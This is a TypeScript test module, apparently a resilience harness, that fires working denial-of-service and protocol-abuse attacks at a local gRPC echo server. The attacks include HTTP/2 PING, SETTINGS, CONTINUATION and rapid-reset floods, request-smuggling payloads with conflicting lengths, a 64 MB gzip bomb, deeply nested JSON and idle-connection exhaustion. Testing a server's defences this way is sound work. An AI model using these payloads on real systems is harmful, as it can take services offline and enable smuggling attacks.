import type { ClientHttp2Session, OutgoingHttpHeaders } from "node:http2";
import type { Socket } from "node:net";
import { setImmediate as nextTurn } from "node:timers/promises";
import { gzipSync } from "node:zlib";
import { openHttp2, openSocket } from "./open-raw.ts";

/** The server that is attacked, and a valid token of the attacker. */
export interface Target {
  readonly url: string;
  readonly port: number;
  readonly token: string;
}

/** Attacks a server until it has answered, refused or cut off everything. */
export type Attack = (target: Target) => Promise<void>;

const service = "/fanfare.echo.v1.EchoService";
const attacker = "127.0.0.2";
const mebibyte = Buffer.alloc(1024 * 1024, " ");
const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const isGone = (session: ClientHttp2Session) => session.destroyed || session.closed;

function frame(type: number, flags: number, stream: number, payload: Uint8Array): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.byteLength, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Starts calls in one session, each with a body that does not end. */
function sendUnended(count: number, path: string, body: Uint8Array): Attack {
  return async ({ url, token }) => {
    for (const authorization of [undefined, `Bearer ${token}`]) {
      using session = await openHttp2(url);
      const headers: OutgoingHttpHeaders = {
        ":method": "POST",
        ":path": path,
        "content-type": "application/json",
        ...(authorization === undefined ? {} : { authorization }),
      };
      for (let call = 0; call < count && !isGone(session); call += 1) {
        const stream = session.request(headers, { endStream: false }).on("error", () => {});
        stream.resume().write(body);
        if (call % 20 === 0) await nextTurn();
      }
      await settle();
    }
  };
}

/** Sends bytes over TCP, and waits until the server closes the connection or has read them. */
function sendRaw(...pieces: readonly (string | Uint8Array)[]): Attack {
  return async ({ port }) => {
    const socket = await openSocket(port, attacker);
    for (const piece of pieces) {
      if (socket.destroyed) return;
      await write(socket, typeof piece === "string" ? Buffer.from(piece, "latin1") : piece);
    }
    await settle();
    socket.destroy();
  };
}

async function write(socket: Socket, bytes: Uint8Array): Promise<void> {
  if (socket.write(bytes)) return;
  const taken = new Promise<void>((resolve) => {
    socket.once("drain", resolve).once("close", resolve);
  });
  await Promise.race([taken, settle()]);
}

/** Gives the server the time to take what was sent: some turns of the event loop with input and output. */
async function settle(): Promise<void> {
  for (let turn = 0; turn < 200; turn += 1) await nextTurn();
}

interface Post {
  readonly body: NonNullable<RequestInit["body"]>;
  readonly headers?: Readonly<Record<string, string>>;
}

async function post({ url, token }: Target, { body, headers }: Post): Promise<void> {
  const response = await fetch(`${url}${service}/Say`, {
    method: "POST",
    body,
    headers: {
      authorization: `Bearer ${token}`,
      "content-type": "application/json",
      ...headers,
    },
  });
  await response.arrayBuffer();
}

const deepJson = `{"text":${"[".repeat(400_000)}`;
/** Groups of an unknown field, nested as deep as a message of 1 MiB can nest them. */
const deepGroups = Buffer.alloc(1_000_000, 0x1b);
const pipelined = "GET / HTTP/1.1\r\nhost: x\r\n\r\n".repeat(5000);
const ping = frame(6, 0, 0, Buffer.alloc(8));
const settings = frame(4, 0, 0, Buffer.alloc(0));

/** The attacks, by what they do. */
export const attacks: Readonly<Record<string, Attack>> = {
  "200 calls of 1 MB that do not end": sendUnended(200, `${service}/Say`, mebibyte),
  "200 health checks of 1 MB that do not end": sendUnended(
    200,
    "/grpc.health.v1.Health/Check",
    mebibyte,
  ),
  "2,000 connections that send nothing": async ({ port }) => {
    const sockets: Socket[] = [];
    for (let count = 0; count < 2000; count += 1) sockets.push(await openSocket(port, attacker));
    for (const socket of sockets) socket.destroy();
  },
  "half a TLS handshake on each of 200 connections": async (target) => {
    await Promise.all(
      Array.from({ length: 200 }, () => sendRaw("\u0016\u0003\u0001\u0002")(target)),
    );
  },
  "2,000 calls without a valid token": async ({ url }) => {
    using session = await openHttp2(url);
    for (let call = 0; call < 2000; call += 1) {
      const authorization = `Bearer ${"x".repeat(2000)}`;
      const headers = { ":method": "POST", ":path": `${service}/Say`, authorization };
      const stream = session.request({ ...headers, "content-type": "application/json" });
      stream.on("error", () => {}).resume();
      stream.end();
      if (call % 100 === 0) await nextTurn();
    }
    await settle();
  },
  "streams that are opened and reset": async ({ url, token }) => {
    using session = await openHttp2(url);
    for (let call = 0; call < 5000 && !isGone(session); call += 1) {
      const headers = { ":method": "POST", ":path": `${service}/Say` };
      const stream = session.request({ ...headers, authorization: `Bearer ${token}` });
      stream.on("error", () => {}).close(8);
      if (call % 100 === 0) await nextTurn();
    }
    await settle();
  },
  "streams of reflection without a token": async ({ url }) => {
    using session = await openHttp2(url);
    for (let call = 0; call < 300 && !isGone(session); call += 1) {
      const path = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
      const headers = { ":method": "POST", ":path": path, "content-type": "application/grpc" };
      session
        .request(headers, { endStream: false })
        .on("error", () => {})
        .resume();
    }
    await settle();
  },
  "streams whose reader takes nothing": async ({ url, token }) => {
    const request = Buffer.from('{"text":"x"}');
    using session = await openHttp2(url);
    for (let call = 0; call < 200; call += 1) {
      const stream = session.request({
        ":method": "POST",
        ":path": `${service}/Repeat`,
        "content-type": "application/connect+json",
        authorization: `Bearer ${token}`,
      });
      stream.on("error", () => {}).pause();
      stream.end(Buffer.concat([Buffer.from([0, 0, 0, 0, request.length]), request]));
    }
    await settle();
  },
  "a flood of PING": sendRaw(preface, settings, ...repeat(Buffer.concat(repeat(ping, 1000)), 50)),
  "a flood of SETTINGS": sendRaw(preface, ...repeat(Buffer.concat(repeat(settings, 1000)), 50)),
  "headers that CONTINUATION frames never end": sendRaw(
    preface,
    settings,
    frame(1, 0, 1, Buffer.from([0x82])),
    ...repeat(frame(9, 0, 1, Buffer.alloc(16_000, 0x40)), 200),
  ),
  "too many headers over HTTP/2": async ({ url }) => {
    using session = await openHttp2(url);
    for (let call = 0; call < 100 && !isGone(session); call += 1) {
      const many = Array.from({ length: 90 }, (_, index) => [`x-${index}`, "x".repeat(1000)]);
      session
        .request({ ":path": "/", ...Object.fromEntries(many) })
        .on("error", () => {})
        .end();
    }
    await settle();
  },
  "too many headers over HTTP/1.1": sendRaw(
    "GET / HTTP/1.1\r\n",
    ...repeat(`x: ${"x".repeat(1000)}\r\n`, 1000),
  ),
  "a path of 1 MB": sendRaw(`GET /${"x".repeat(1_000_000)} HTTP/1.1\r\nhost: x\r\n\r\n`),
  "5,000 pipelined requests": sendRaw(pipelined, pipelined),
  "upgrades and tunnels": async (target) => {
    const upgrade = "connection: upgrade\r\nupgrade: websocket\r\nsec-websocket-key: x\r\n";
    await sendRaw(`GET / HTTP/1.1\r\nhost: x\r\n${upgrade}\r\n`)(target);
    await sendRaw("CONNECT x:1 HTTP/1.1\r\nhost: x\r\n\r\n")(target);
    using session = await openHttp2(target.url);
    session
      .request({ ":method": "CONNECT", ":authority": "x" })
      .on("error", () => {})
      .end();
    await settle();
  },
  "requests with two lengths": async (target) => {
    const head = "POST / HTTP/1.1\r\nhost: x\r\ncontent-length: 4\r\n";
    await sendRaw(`${head}transfer-encoding: chunked\r\n\r\n0\r\n\r\nGET /x`)(target);
    await sendRaw(`${head}content-length: 5\r\n\r\n12345`)(target);
    await sendRaw("POST / HTTP/1.1\r\nhost: x\r\ncontent-length: 99999999999999999999\r\n\r\n")(
      target,
    );
    await sendRaw(
      "POST / HTTP/1.1\r\nhost: x\r\ntransfer-encoding: x, chunked\r\n\r\nfffffffff\r\n",
    )(target);
  },
  "bodies that inflate to 64 MB": async (target) => {
    const body = gzipSync(Buffer.alloc(64 * 1024 * 1024, " "), { level: 1 });
    const headers = { "content-encoding": "gzip" };
    await Promise.all(Array.from({ length: 20 }, () => post(target, { body, headers })));
  },
  "nested JSON and nested groups": async (target) => {
    for (let call = 0; call < 5; call += 1) {
      await post(target, { body: deepJson });
      await post(target, { body: deepGroups, headers: { "content-type": "application/proto" } });
    }
  },
  "content types without end": async (target) => {
    for (const type of [
      "x".repeat(10_000),
      "application/json;".repeat(500),
      "application/grpc+\u00ff",
    ]) {
      await post(target, { body: "{}", headers: { "content-type": type } });
    }
  },
};

function repeat<T>(value: T, count: number): T[] {
  return Array.from({ length: count }, () => value);
}
